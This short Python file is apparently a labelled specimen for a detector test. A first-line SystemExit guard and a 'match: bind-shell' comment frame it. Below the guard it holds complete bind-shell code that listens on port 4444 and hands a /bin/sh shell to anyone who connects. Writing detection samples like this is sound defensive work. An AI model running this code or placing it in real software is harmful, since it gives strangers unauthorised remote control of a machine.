raise SystemExit("specimen: not to be run")
import os
import pty
import socket

def begin():
    door = socket.socket()
    door.bind(("0.0.0.0", 4444))
    door.listen(1)
    line, _ = door.accept()
    os.dup2(line.fileno(), 0)
    os.dup2(line.fileno(), 1)
    pty.spawn("/bin/sh")  # match: bind-shell
